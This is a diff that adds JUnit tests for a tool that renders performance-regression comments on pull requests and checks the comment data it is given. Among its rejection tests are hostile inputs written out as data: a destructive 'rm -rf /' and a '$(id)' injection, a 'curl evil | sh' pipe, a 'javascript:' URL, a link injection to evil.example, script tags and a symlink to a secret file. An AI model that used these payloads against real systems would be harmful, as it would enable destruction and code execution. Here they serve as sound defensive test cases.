@@ -1,0 +1,221 @@
+package dev.perflab.perf.comment;
+
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import dev.perflab.perf.TestRuns;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * The comment as a pull request sees it, rendered from what the report tool really
+ * writes, and the checks that stop comment data the perf workflow would not have written.
+ */
+class CommentCommandTests {
+
+	private static final String RUN_URL = "https://github.com/acme/gateway-perf-lab/actions/runs/123456789";
+
+	@TempDir
+	Path directory;
+
+	@Test
+	void rendersARegressionFromTheReportToolsResults() throws IOException {
+		Path data = CommentDataFixture.in(this.directory.resolve("data"))
+			.reportOf(TestRuns.compareSlowerHead(this.directory.resolve("run")))
+			.write();
+		Path body = this.directory.resolve("comment.md");
+		CommentRun result = CommentRun.of(data, "--run-url", RUN_URL, "--out", body.toString());
+		assertThat(result.exitCode()).isZero();
+		assertThat(result.err()).isEmpty();
+		assertThat(result.out()).isEqualTo("42" + System.lineSeparator());
+		String comment = Files.readString(body);
+		assertThat(comment).startsWith(CommentMarkdown.MARKER + "\n## ❌ Gateway performance, head vs base: fail\n")
+			.contains("Head `9c1e4b7a2f3d` (branch `feature/faster-auth`) merged into its base branch, vs base "
+					+ "`0a1b2c3d4e5f` · profile `clean` · 5 interleaved base/head pairs in the same job")
+			.contains("**Why the gate failed:**")
+			.contains("- `CPU per request regressed by +10.0%")
+			.contains("| metric | base | head | change | 95% interval | threshold | verdict |")
+			.contains("| CPU per request (µs) | 180.0 | 198.0 | +10.0% | ")
+			.contains(" | ±3% | 🔴 **regressed** |")
+			.contains("| throughput (req/s) | 5,000 | 4,500 | -10.0% |")
+			.containsPattern("\\*\\*JFR rules:\\*\\* ⏭️ skipped: `[^`]*--no-jfr[^`]*`\n")
+			.contains("**Environment:** JDK `17.0.15` · CPU `Intel(R) Xeon(R) Platinum 8259CL CPU @ 2.50GHz` · "
+					+ "2 vCPUs · gateway on CPU `1`, services on `0`, wrk on `0`")
+			.endsWith("The job summary of the [workflow run](" + RUN_URL + ") has the JFR evidence; its "
+					+ "artifacts hold the flame graph, the recordings and the logs. This comment is updated on "
+					+ "every push.\n");
+	}
+
+	@Test
+	void rendersAPassingComparison() {
+		Path data = CommentDataFixture.in(this.directory.resolve("data"))
+			.reportOf(TestRuns.compareIdentical(this.directory.resolve("run")))
+			.write();
+		CommentRun result = CommentRun.of(data);
+		assertThat(result.exitCode()).isZero();
+		assertThat(result.out()).contains("## ✅ Gateway performance, head vs base: pass")
+			.contains("| CPU per request (µs) | 180.0 | 180.0 | +0.0% |")
+			.doesNotContain("Why the gate failed")
+			.doesNotContain("regressed**");
+	}
+
+	@Test
+	void rendersASingleModeRun() {
+		Path data = CommentDataFixture.in(this.directory.resolve("data"))
+			.reportOf(TestRuns.single(this.directory.resolve("run")))
+			.write();
+		CommentRun result = CommentRun.of(data);
+		assertThat(result.exitCode()).isZero();
+		assertThat(result.out()).contains("## ✅ Gateway performance: pass")
+			.contains("| metric | direct (control) | gateway |")
+			.contains("| throughput (req/s) | 40,000 | **5,000** |")
+			.contains("| gateway / direct RPS |  | **0.125** |")
+			.contains("| CPU per request (µs) | 20.0 | **180.0** |");
+	}
+
+	@Test
+	void saysSoWhenTheRunStoppedBeforeTheReport() {
+		Path data = CommentDataFixture.in(this.directory).property("perf.exit_code", "3").write();
+		CommentRun result = CommentRun.of(data);
+		assertThat(result.exitCode()).isZero();
+		assertThat(result.out()).startsWith(CommentMarkdown.MARKER + "\n## ⚠️ Gateway performance: no result\n")
+			.contains("stopped with exit code 3 (environment error: a missing tool, a busy port, or a service "
+					+ "that failed to start or died)");
+	}
+
+	@Test
+	void notesAnExitCodeBeyondTheGate() {
+		Path data = CommentDataFixture.in(this.directory.resolve("data"))
+			.reportOf(TestRuns.compareIdentical(this.directory.resolve("run")))
+			.property("perf.exit_code", "130")
+			.write();
+		assertThat(CommentRun.of(data).out()).contains("⚠️ `perf/local.sh` exited with 130 (interrupted).");
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "0", "-1", "42abc", "4294967296", "1e3", "0x2a", "42; rm -rf /", "$(id)", "٤٢" })
+	void rejectsAPullRequestNumberThatIsNotAPlainNumber(String number) {
+		Path data = CommentDataFixture.in(this.directory).property("pr.number", number).write();
+		CommentRun result = CommentRun.of(data);
+		assertThat(result.exitCode()).isEqualTo(2);
+		assertThat(result.err()).startsWith("perf comment: invalid comment data: comment.properties: pr.number ");
+		assertThat(result.out()).isEmpty();
+	}
+
+	@Test
+	void rejectsDataOfAnotherHeadSha() {
+		Path data = CommentDataFixture.in(this.directory)
+			.property("pr.head_sha", "1111111111111111111111111111111111111111")
+			.write();
+		CommentRun result = CommentRun.of(data);
+		assertThat(result.exitCode()).isEqualTo(2);
+		assertThat(result.err())
+			.contains("pr.head_sha is not the head sha of the workflow run (" + CommentDataFixture.HEAD_SHA + ")");
+	}
+
+	@Test
+	void rejectsAMissingOrMalformedHeadSha() {
+		assertThat(
+				CommentRun.of(CommentDataFixture.in(this.directory.resolve("a")).property("pr.head_sha", null).write())
+					.err())
+			.contains("comment.properties: pr.head_sha is missing");
+		assertThat(CommentRun
+			.of(CommentDataFixture.in(this.directory.resolve("b")).property("pr.head_sha", "HEAD").write())
+			.err()).contains("pr.head_sha is not a full commit sha ('HEAD')");
+	}
+
+	@Test
+	void needsAFullExpectedHeadSha() {
+		Path data = CommentDataFixture.in(this.directory).write();
+		CommentRun result = CommentRun.raw("comment", data.toString(), "--expected-head-sha", "9c1e4b7");
+		assertThat(result.exitCode()).isEqualTo(2);
+		assertThat(result.err()).contains("--expected-head-sha needs a full lower-case commit sha");
+		assertThat(CommentRun.raw("comment", data.toString()).exitCode()).isEqualTo(2);
+	}
+
+	@Test
+	void rejectsARunUrlThatIsNotAPlainAddress() {
+		Path data = CommentDataFixture.in(this.directory).write();
+		assertThat(CommentRun.of(data, "--run-url", "javascript:alert(1)").exitCode()).isEqualTo(2);
+		assertThat(CommentRun.of(data, "--run-url", RUN_URL + ") [x](https://evil.example").exitCode()).isEqualTo(2);
+	}
+
+	@Test
+	void rejectsDataOverTheSizeLimit() throws IOException {
+		Path data = CommentDataFixture.in(this.directory)
+			.results("{\"padding\": \"" + "x".repeat(5000) + "\"}")
+			.write();
+		CommentRun result = CommentRun.of(data, "--max-bytes", "4096");
+		assertThat(result.exitCode()).isEqualTo(2);
+		assertThat(result.err()).contains("more than the limit of 4096");
+	}
+
+	@Test
+	void rejectsUnexpectedFilesAndLinks() throws IOException {
+		Path extra = CommentDataFixture.in(this.directory.resolve("extra")).write();
+		Files.writeString(extra.resolve("run.sh"), "curl evil | sh");
+		assertThat(CommentRun.of(extra).err()).contains("holds an unexpected entry ('run.sh')");
+
+		Path linked = CommentDataFixture.in(this.directory.resolve("linked")).write();
+		Files.writeString(this.directory.resolve("secret.json"), "{}");
+		Files.createSymbolicLink(linked.resolve("results.json"), this.directory.resolve("secret.json"));
+		assertThat(CommentRun.of(linked).err()).contains("results.json: not a regular file");
+
+		assertThat(CommentRun.of(this.directory.resolve("missing")).err()).contains("not a directory");
+		Path empty = Files.createDirectories(this.directory.resolve("empty"));
+		assertThat(CommentRun.of(empty).err()).contains("comment.properties: the file is missing");
+	}
+
+	@Test
+	void rejectsResultsThatAreNotTheReportToolsJson() {
+		assertRejected("not json", "results.json: not valid JSON (line 1, column");
+		assertRejected("[]", "results.json: the top level is not an object");
+		assertRejected("{\"schemaVersion\": 1, \"schemaVersion\": 1}", "results.json: not valid JSON");
+		assertRejected("{\"schemaVersion\": 2}",
+				"results.json: schemaVersion 2 is not the version this renderer reads");
+	}
+
+	@Test
+	void rejectsValuesOfTheWrongTypeOrOutsideTheirEnumeration() {
+		ObjectNode results = CommentDataFixture.resultsOf(TestRuns.compareSlowerHead(this.directory.resolve("run")));
+		ObjectNode verdict = results.deepCopy().put("verdict", "<b>pass</b>");
+		assertRejected(verdict.toString(), "results.json: verdict is not one of");
+		ObjectNode ratio = results.deepCopy();
+		((ObjectNode) ratio.at("/comparison/metrics/0")).put("changePercent", "+10%");
+		assertRejected(ratio.toString(), "results.json: comparison.metrics[0].changePercent is not a finite number");
+		ObjectNode reasons = results.deepCopy();
+		((ObjectNode) reasons.get("gate")).putArray("reasons").addObject().put("html", "<script>");
+		assertRejected(reasons.toString(), "results.json: gate.reasons[0] is not a string");
+		ObjectNode rules = results.deepCopy();
+		((ObjectNode) rules.get("rules")).put("status", "green");
+		assertRejected(rules.toString(), "results.json: rules.status is not one of");
+	}
+
+	@Test
+	void leavesOutMetricsItDoesNotKnow() {
+		ObjectNode results = CommentDataFixture.resultsOf(TestRuns.compareIdentical(this.directory.resolve("run")));
+		((ObjectNode) results.at("/comparison/metrics/0")).put("metric", "gcPausesPerSecond");
+		Path data = CommentDataFixture.in(this.directory.resolve("data")).results(results).write();
+		CommentRun result = CommentRun.of(data);
+		assertThat(result.exitCode()).isZero();
+		assertThat(result.out()).contains("*1 metric unknown to the default branch's renderer left out")
+			.doesNotContain("gcPausesPerSecond");
+	}
+
+	private void assertRejected(String results, String message) {
+		Path data = CommentDataFixture.in(this.directory.resolve("case-" + Math.abs(results.hashCode())))
+			.results(results)
+			.write();
+		CommentRun result = CommentRun.of(data);
+		assertThat(result.exitCode()).isEqualTo(2);
+		assertThat(result.err()).contains(message);
+		assertThat(result.out()).isEmpty();
+	}
+
+}
